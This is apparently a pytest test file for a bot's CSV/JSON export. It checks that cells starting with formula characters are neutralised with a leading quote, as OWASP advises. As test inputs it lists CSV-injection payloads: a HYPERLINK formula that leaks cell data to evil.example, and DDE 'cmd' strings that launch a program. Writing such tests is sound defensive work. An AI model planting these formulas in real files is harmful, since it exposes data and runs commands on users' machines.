"""An export is safe to open: no cell runs as a spreadsheet formula, and a bad character never breaks the file."""

import csv
import io
import json

import pytest

from bot.export import CSV_COLUMNS, csv_row, export
from tests.harness import Harness

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"refund")', "+SUM(1,2)", "-2+3 refund window", "@SUM(A1:A9)",
            "\tcmd|' /C calc'!A0", "\rcmd|' /C calc'!A0"]


def run(h: Harness, fmt: str) -> str:
    out = io.StringIO(newline="")
    export(h.bot.intake.store, h.bot.intake.config, now=h.clock(), fmt=fmt, out=out)
    return out.getvalue()


def file_titles(h: Harness, titles: list[str]) -> None:
    for title in titles:
        assert h.command(f"question: {title}").status == 200
    h.settle()


def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote(harness: Harness) -> None:
    titles = [f.strip() for f in FORMULAS[:4]]  # the slash command strips its text: these four stay as typed
    file_titles(harness, titles)
    rows = list(csv.DictReader(io.StringIO(run(harness, "csv"))))
    assert [r["title"] for r in rows] == ["'" + t for t in titles]
    assert [r["title"] for r in json.loads(run(harness, "json"))] == titles  # JSON keeps the text as it is


@pytest.mark.parametrize("text", FORMULAS)
def test_every_formula_start_owasp_names_is_neutralised_in_any_text_cell(text: str) -> None:
    row = {name: None for name in CSV_COLUMNS}
    row.update(key="AIR-1", title=text, description=text, requester=text, domain=text,
               sla={"first_response": dict.fromkeys(("due_at", "state", "business_seconds_elapsed", "paused_seconds")),
                    "resolution": dict.fromkeys(("due_at", "state", "business_seconds_elapsed", "paused_seconds"))},
               court_seconds={"requester": 12.5})
    cells = csv_row(row)
    for name in ("title", "description", "requester", "domain"):
        assert cells[name] == "'" + text
    assert cells["court_requester_seconds"] == 12.5 and cells["key"] == "AIR-1"


def test_numbers_stay_numbers_and_ordinary_text_is_untouched() -> None:
    row = {name: None for name in CSV_COLUMNS}
    row.update(key="AIR-2", title="refund window – 30 days = policy", description="", confidential=False,
               sla={"first_response": {"due_at": "2026-11-23T10:00:00.000000+00:00", "state": "met",
                                       "business_seconds_elapsed": 1800.0, "paused_seconds": 0.0},
                    "resolution": dict.fromkeys(("due_at", "state", "business_seconds_elapsed", "paused_seconds"))},
               court_seconds={})
    cells = csv_row(row)
    assert cells["title"] == "refund window – 30 days = policy" and cells["description"] == ""
    assert cells["confidential"] == "false" and cells["sla_first_response_business_seconds_elapsed"] == 1800.0
    assert cells["sla_first_response_due_at"] == "2026-11-23T10:00:00.000000+00:00"


def test_the_readme_says_how_csv_cells_are_neutralised() -> None:
    from tests.test_docs import README

    assert "a leading `'`, as OWASP advises" in README
